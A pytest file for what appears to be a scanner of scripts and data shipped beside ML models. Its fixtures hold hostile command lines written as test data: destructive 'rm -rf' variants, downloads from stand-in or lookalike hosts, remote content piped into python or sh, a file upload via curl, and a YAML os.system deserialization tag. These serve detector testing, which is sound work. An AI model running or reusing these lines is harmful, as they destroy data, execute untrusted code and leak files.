"""Scripts beside a model: those that train, convert and fetch data pass, those that do more are told."""

from __future__ import annotations

import pytest

from ossmodelkit.scanning.verdict import Word
from tests.making.memory import said, scan_bytes

ORDINARY = {
    "run.sh": "#!/bin/bash\nset -e\ntorchrun --nproc_per_node 2 train.py \\\n  --out out 2>&1 | tee log\n"
    "rm -rf out/tmp ./build\n",
    "get.sh": "#!/bin/sh\nwget -c https://huggingface.co/a/b/resolve/main/model.safetensors -P data\n"
    "curl -L -o data/vocab.json https://huggingface.co/a/b/resolve/main/vocab.json?download=true\n"
    "unzip -o a.zip -d data\n",
    "start.bat": "@echo off\r\ncall venv\\Scripts\\activate.bat\r\nif not exist venv (\r\npython -m venv venv\r\n)\r\n"
    'if "%1"=="" echo usage\r\nset ARGS=%*\r\npython webui.py %ARGS%\r\npause\r\n',
    "convert.ps1": "param([string]$Model)\n# convert\n$out = Join-Path $PSScriptRoot 'out'\nif (-not "
    "(Test-Path $out)) {\n"
    '  New-Item -ItemType Directory $out | Out-Null\n}\nWrite-Host "Converting $Model"\n'
    "python convert.py $Model --outtype q8_0\n",
}
STRANGE = {
    "up.sh": "rm -rf ../other\n",
    "var.sh": 'rm -rf "$WHERE"\n',
    "all.sh": "rm -rf data /\n",
    "fetch.sh": "wget https://evil.example/model.safetensors\n",
    "alike.sh": "wget https://evilhuggingface.co/model.safetensors\n",
    "program.sh": "wget https://huggingface.co/a/b/resolve/main/setup.sh\nbash setup.sh\n",
    "renamed.sh": "curl -L -o run.py https://huggingface.co/a/b/resolve/main/a.txt\n",
    "piped.sh": "curl -L https://huggingface.co/a/b/resolve/main/a.txt | python\n",
    "sent.sh": "curl -F f=@notes.txt https://huggingface.co/a.txt\n",
    "call.bat": "@echo off\nstart evil.exe\n",
    "if.bat": "if exist x evil.exe\n",
    "for.bat": "for %%i in (1) do evil %%i\n",
    "hidden.bat": "set a=ev\n%a%il\n",
    "net.ps1": '$p = [Diagnostics.Process]::Start("calc")\n',
    "value.ps1": "$c = 'calc'\n& $c\n",
    "cmdlet.ps1": "if ($true) { Start-Process calc }\n",
    "object.ps1": "$w = New-Object Net.WebClient\n",
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_scripts_are_left_alone(name: str) -> None:
    found = scan_bytes(ORDINARY[name].encode(), name)
    assert found.verdict is Word.CLEAN, said(found)


@pytest.mark.parametrize("name", STRANGE)
def test_scripts_that_do_more_are_told(name: str) -> None:
    found = scan_bytes(STRANGE[name].encode(), name)
    assert found.verdict in (Word.SUSPICIOUS, Word.DANGEROUS), said(found)


def test_an_installer_of_a_host_that_sounds_like_another_is_flagged() -> None:
    for host, expected in (("get.docker.com", Word.CLEAN), ("evilget.docker.com.example", Word.SUSPICIOUS)):
        assert scan_bytes(f"all:\n\tcurl https://{host}/x | sh\n".encode(), "Makefile").verdict is expected
    assert scan_bytes(b"all:\n\tcurl https://my-github.com/x | sh\n", "Makefile").verdict is Word.SUSPICIOUS


@pytest.mark.parametrize("encoding", ["gb18030", "cp1251", "shift_jis", "latin-1"])
def test_texts_in_old_encodings_are_read(encoding: str) -> None:
    words = {
        "gb18030": "模型说明文件。",
        "cp1251": "Описание модели. ",
        "shift_jis": "モデルの説明です。",
        "latin-1": "Modèle entraîné à Genève. ",
    }
    assert scan_bytes(((words[encoding] * 3 + "\n") * 20).encode(encoding), "readme.txt").verdict is Word.CLEAN


def test_json_lines_that_quote_a_tag_are_clean_and_yaml_with_one_is_not() -> None:
    line = b'{"text": "!!python/object/apply:os.system [id]"}\n'
    assert scan_bytes(line * 3, "train.jsonl").verdict is Word.CLEAN
    assert scan_bytes(b"a: !!python/object/apply:os.system [id]\n", "a.yaml").verdict is Word.DANGEROUS
    assert scan_bytes(b"!!python/object/apply:os.system [id]\n", "train.jsonl").verdict is Word.DANGEROUS
